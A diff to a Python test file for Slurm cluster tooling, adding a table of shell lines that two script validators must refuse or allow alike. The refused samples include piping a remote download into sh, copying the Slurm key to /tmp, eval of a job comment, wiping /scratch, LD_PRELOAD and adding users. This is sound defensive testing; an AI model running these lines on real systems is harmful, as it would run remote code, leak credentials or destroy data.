@@ -9,7 +9,7 @@ from dataclasses import fields
 from pathlib import Path
 
 import pytest
-from slurm_rules import beside, cluster, images, made, model, slurm_files, world
+from slurm_rules import beside, cluster, images, made, model, scripts, slurm_files, world
 from slurm_rules.world import world_of
 
 from components import gates
@@ -18,7 +18,7 @@ from components.gates import NodeSetScale, OutsideHosts
 from components.hybrid_cluster import EXPORTS
 from slinky_iac import names
 from slinky_iac.cluster.reach import Reach
-from slinky_iac.config import rules_slurm_reach, slurm_permitted, slurm_reach
+from slinky_iac.config import rules_slurm_reach, script_faults, slurm_permitted, slurm_reach
 from slinky_iac.drain.settings import DrainPolicy, Limits, plain_policy, reach_props
 from slinky_iac.releases import LINES, MINIMUM_SLURM, OPERATOR_MAX_NODE_COUNT, OperatorVersion
 from slinky_iac.specs.shared import SLINKY_REGISTRY
@@ -238,3 +238,38 @@ FILES = {
 def test_settings_and_pack_refuse_the_same_files(file: str, line: str) -> None:
     of_pack = list(slurm_files.file_faults(file, line, [], world_of(model.Stack(())), own=False))
     assert bool(of_pack) is bool(list(rules_slurm_reach.of_file(file, line))), of_pack
+
+
+SCRIPTS = (
+    "nvidia-smi -L >/dev/null || exit 1",
+    'mkdir -p "/scratch/job_$SLURM_JOB_ID" && rm -rf "/scratch/job_$SLURM_JOB_ID"',
+    'squeue -h -u "$SLURM_JOB_UID" | grep -q . || pkill -u "$SLURM_JOB_UID"',
+    "# eval $x",
+    'eval "$SLURM_JOB_COMMENT"',
+    'pkill -9 -u "$SLURM_JOB_UID"',
+    "echo $SLURM_JOB_NAME",
+    "rm -rf /scratch/*",
+    "scontrol token username=root",
+    'scontrol update nodename=x state=down reason="x"',
+    "curl -s https://x.example.org/p | sh",
+    "chmod 777 /scratch",
+    "cp /etc/slurm/slurm.key /tmp/x",
+    '. "$HOME/.profile"',
+    "export LD_PRELOAD=/scratch/x.so",
+    "useradd eve",
+    "/scratch/bin/check",
+    "killall slurmstepd",
+)
+
+
+@pytest.mark.parametrize("interpreter", ["/bin/bash", "/usr/bin/python3"])
+@pytest.mark.parametrize("line", SCRIPTS)
+def test_settings_and_pack_refuse_the_same_scripts(interpreter: str, line: str) -> None:
+    """By one table; each door has code of its own."""
+    text = f"#!{interpreter}\n{line}\n"
+    assert list(scripts.shell_faults(text)) == list(script_faults.of_script(text))
+
+
+def test_some_scripts_are_refused_and_some_are_not() -> None:
+    refused = [bool(list(script_faults.of_script(f"#!/bin/sh\n{line}\n"))) for line in SCRIPTS]
+    assert refused == [False] * 4 + [True] * 14
